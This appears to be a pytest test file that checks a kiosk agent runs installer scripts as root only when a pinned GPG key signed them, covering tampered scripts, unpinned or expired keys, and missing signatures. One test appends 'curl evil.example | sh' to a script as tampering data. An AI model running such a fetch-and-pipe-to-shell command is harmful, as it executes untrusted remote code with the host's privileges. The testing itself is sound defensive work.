"""Nothing is run as root that no pinned key has signed. By the real gpg."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from kiosk_agent.bootstrap.signatures import NotVerifiedError, PinnedKeys, verify_installer
from tests.support.signer import Signer

SCRIPT = b"#!/bin/sh\necho register\n"


@pytest.fixture(scope="module")
def signers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[..., Signer]]:
    made: list[Signer] = []

    def make(**how: str) -> Signer:
        # gpg's agent listens at a socket in this folder, so its path is short.
        made.append(Signer(tmp_path_factory.mktemp("g") / "h").make(**how))
        return made[-1]

    yield make
    for signer in made:
        signer.stop()


@pytest.fixture(scope="module")
def aws(signers: Callable[..., Signer]) -> Signer:
    return signers()


@pytest.fixture(scope="module")
def stranger(signers: Callable[..., Signer]) -> Signer:
    return signers()


@pytest.fixture
def script(tmp_path: Path) -> Path:
    path = tmp_path / "install.sh"
    path.write_bytes(SCRIPT)
    return path


def why_not(script: Path, signature: Path, pinned: PinnedKeys) -> str:
    with pytest.raises(NotVerifiedError) as caught:
        verify_installer(script, signature, pinned)
    assert caught.value.what_to_do
    return str(caught.value)


def pins(*signers: Signer, but: Signer | None = None) -> PinnedKeys:
    keys = [*signers, *([but] if but else [])]
    return PinnedKeys([one.key() for one in keys], [one.fingerprint for one in signers])


def test_a_pinned_key_s_signature_holds(aws: Signer, stranger: Signer, script: Path) -> None:
    signature = aws.sign(script)
    assert verify_installer(script, signature, pins(aws)) == aws.fingerprint
    assert verify_installer(script, signature, pins(stranger, aws)) == aws.fingerprint


def test_a_script_that_was_changed_is_not_run(aws: Signer, script: Path) -> None:
    signature = aws.sign(script)
    script.write_bytes(SCRIPT + b"curl evil.example | sh\n")
    assert "was changed" in why_not(script, signature, pins(aws))


def test_a_key_that_is_known_and_not_pinned_counts_for_nothing(
    aws: Signer, stranger: Signer, script: Path
) -> None:
    signature = stranger.sign(script)
    assert "is not pinned" in why_not(script, signature, pins(aws, but=stranger))
    assert "not in the bundle" in why_not(script, signature, pins(aws))


def test_a_key_that_has_expired_is_named(signers: Callable[..., Signer], script: Path) -> None:
    old = signers(expires="20200102T000000", faked="20200101T000000")
    signature = old.sign(script, faked="20200101T120000")
    assert "the key that signed it has expired" in why_not(script, signature, pins(old))


def test_without_a_key_or_a_signature_or_gpg_nothing_is_run(
    aws: Signer, script: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    signature = aws.sign(script)
    pinned = pins(aws)
    assert "has no key" in why_not(script, signature, PinnedKeys([], [aws.fingerprint]))
    assert "not in the bundle" in why_not(
        script, signature, PinnedKeys(["no key"], [aws.fingerprint])
    )
    empty = tmp_path / "empty.asc"
    empty.write_text("no signature")
    assert "holds no signature" in why_not(script, empty, pinned)
    assert "does not say" in why_not(script, tmp_path / "none", pinned)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert "gpg is not installed" in why_not(script, signature, pinned)


def test_the_user_s_own_keyring_is_not_asked(
    aws: Signer, stranger: Signer, script: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GNUPGHOME", str(stranger.home))
    assert "not in the bundle" in why_not(script, stranger.sign(script), pins(aws))
